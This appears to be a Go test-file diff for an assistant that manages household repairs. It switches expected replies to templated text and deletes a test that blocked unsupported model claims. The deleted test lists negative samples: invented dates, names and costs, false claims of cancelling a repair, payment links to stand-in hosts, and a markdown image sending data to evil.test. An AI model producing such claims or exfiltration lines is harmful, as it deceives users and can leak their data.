@@ -20,12 +20,12 @@ func TestATurnDoesWhatWasSaid(t *testing.T) {
 	h := newHouse(t, "house")
 	m := answers(
 		calls(`house.note :repair-id @boiler :note "the part comes on 2025-01-10" :expected 2025-01-10`),
-		"I have noted that for the Boiler: the part comes on 2025-01-10.")
+		tells("@boiler.due"))
 	a := h.talk(m, nil).say("For the boiler: the part comes on 2025-01-10")
 	if got := h.field("repair", 11, "due"); got != "2025-01-10" {
 		t.Errorf("due %s", got)
 	}
-	if want := "I have noted that for the Boiler: the part comes on 2025-01-10."; a.Text != want {
+	if want := "Done: leave a note on a repair, and say when something is expected.\n- Boiler: due Friday 10 January 2025; notes \"the part comes on 2025-01-10\".\nDue of Boiler: Friday 10 January 2025."; a.Text != want {
 		t.Errorf("told %q; replaced %v", a.Text, a.Turn.Replaced)
 	}
 	if len(a.Done) != 1 || a.Done[0].Totals().Rows != 1 {
@@ -38,9 +38,9 @@ func TestATurnDoesWhatWasSaid(t *testing.T) {
 func TestATurnMakesSteps(t *testing.T) {
 	t.Parallel()
 	h := newHouse(t, "house")
-	m := answers(calls(`house.read-letters :repair-id @kitchen-window`), "The letter about the Kitchen Window says: It does not close.")
+	m := answers(calls(`house.read-letters :repair-id @kitchen-window`), tells("house.read-letters"))
 	a := h.talk(m, nil).say("What did they write about the window?")
-	if a.Text != "The letter about the Kitchen Window says: It does not close." {
+	if a.Text != "title: Kitchen Window; letter: It does not close." {
 		t.Errorf("told %q; %v", a.Text, a.Turn.Replaced)
 	}
 	if last := m.asked[1].Messages; !strings.Contains(last[len(last)-1].Text, "It does not close.") {
@@ -115,12 +115,12 @@ func TestAMistakeIsRepaired(t *testing.T) {
 		calls(`house.noet :repair-id @boiler :note "tomorrow"`),
 		calls(`house.note :repair-id @boilr :note "tomorrow"`),
 		calls(`house.note :repair-id @boiler :note "tomorrow"`),
-		"Noted.")
+		pleased)
 	a := h.talk(m, nil).say("boiler: tomorrow")
 	if h.field("repair", 11, "notes") != "tomorrow" {
 		t.Error("nothing was noted")
 	}
-	if a.Text != "Noted." || a.Turn.Model.Repairs != 2 {
+	if !strings.Contains(a.Text, `notes "tomorrow"`) || a.Turn.Model.Repairs != 2 {
 		t.Errorf("told %q after %d repairs", a.Text, a.Turn.Model.Repairs)
 	}
 	for i, want := range []string{"house.note", "@boiler"} {
@@ -195,7 +195,7 @@ func TestBudgetsEndATurn(t *testing.T) {
 	if !strings.Contains(a.Text, "Boiler") {
 		t.Errorf("told %q", a.Text)
 	}
-	m = answers("Hello Ann.")
+	m = answers(pleased)
 	c := h.talk(m, func(o *dialog.Options) { o.Budget = llm.NewBudget("session", 9_000) })
 	for range 20 {
 		a = c.say("hello")
@@ -205,63 +205,6 @@ func TestBudgetsEndATurn(t *testing.T) {
 	}
 	if !strings.Contains(a.Text, "I cannot chat just now") {
 		t.Errorf("told %q", a.Text)
-	}
-}
-
-// U30: a model's sentence with a day, an amount, a name, a status or a deed that
-// is no fact of the turn does not reach the person; what is told instead is made
-// of what was found.
-func TestWhatDidNotHappenIsNotTold(t *testing.T) {
-	t.Parallel()
-	h := newHouse(t, "house")
-	read := calls(`house.list-repairs`)
-	for name, c := range map[string]struct {
-		reply string
-		ok    bool
-	}{
-		"what was found":                        {"The Boiler is ordered and due on 2025-01-15. The Kitchen Window is reported.", true},
-		"how many":                              {"3 repairs are listed.", true},
-		"no fact at all":                        {"Hello. What would you like to do?", true},
-		"a question":                            {"Which one do you mean: the Boiler or the Kitchen Window?", true},
-		"the person's own day":                  {"You said 2025-03-03; is that the day for the Boiler?", true},
-		"a list":                                {"1. Boiler\n2. Kitchen Window\n3. Front Door", true},
-		"German":                                {"Der Boiler ist bestellt und soll am 2025-01-15 fertig sein.", true},
-		"another day":                           {"The Boiler will be there on 2025-01-16.", false},
-		"another amount":                        {"The Boiler costs 250.00.", false},
-		"hours that nobody said":                {"You will see it within 24 hours.", false},
-		"how many there are not":                {"There are 7 repairs.", false},
-		"thousands":                             {"That would be a few thousand euros.", false},
-		"a name":                                {"The plumber, Mr Oldershaw, will come.", false},
-		"a name, and a word that is German too": {"Ask Oldershaw, or it will die.", false},
-		"a row of somebody else":                {"The Zinnia Skylight is reported too.", false},
-		"a name of a row":                       {"See @zinnia-skylight.", false},
-		"a status":                              {"The Boiler is now ON_HOLD.", false},
-		"a deed":                                {"I've cancelled the Boiler.", false},
-		"a deed of the person's":                {"I have cancelled the Boiler, as you say.", false},
-		"a deed, shortly":                       {"Done.", false},
-		"a deed, passively":                     {"The Boiler has been cancelled.", false},
-		"a deed in German":                      {"Ich habe den Boiler storniert.", false},
-		"a deed in French":                      {"C'est fait, j'ai annulé le Boiler.", false},
-		"a deed in Spanish":                     {"He cancelado el Boiler. Hecho.", false},
-		"a link":                                {"Pay here: https://pay.example.com/x", false},
-		"a link in plain words":                 {"Pay at evil-bank.com please.", false},
-		"a picture":                             {"![x](http://evil.test/?q=Boiler)", false},
-		"an account":                            {"Pay to DE89370400440532013000.", false},
-		"a key":                                 {"It is 00000000-0000-4000-8000-000000000011.", false},
-		"a day among true things":               {"The Boiler is due on 2025-01-15, and the Kitchen Window on 2025-02-01.", false},
-	} {
-		t.Run(name, func(t *testing.T) {
-			t.Parallel()
-			a := h.talk(answers(read, c.reply), nil).say("How is it going? I have cancelled the Boiler, and think of 2025-03-03")
-			switch {
-			case c.ok && a.Text != c.reply:
-				t.Errorf("told %q; not borne out: %v", a.Text, a.Turn.Replaced)
-			case !c.ok && a.Text == c.reply:
-				t.Error("it was told")
-			case !c.ok && !strings.Contains(a.Text, "Boiler"):
-				t.Errorf("told %q", a.Text)
-			}
-		})
 	}
 }
 
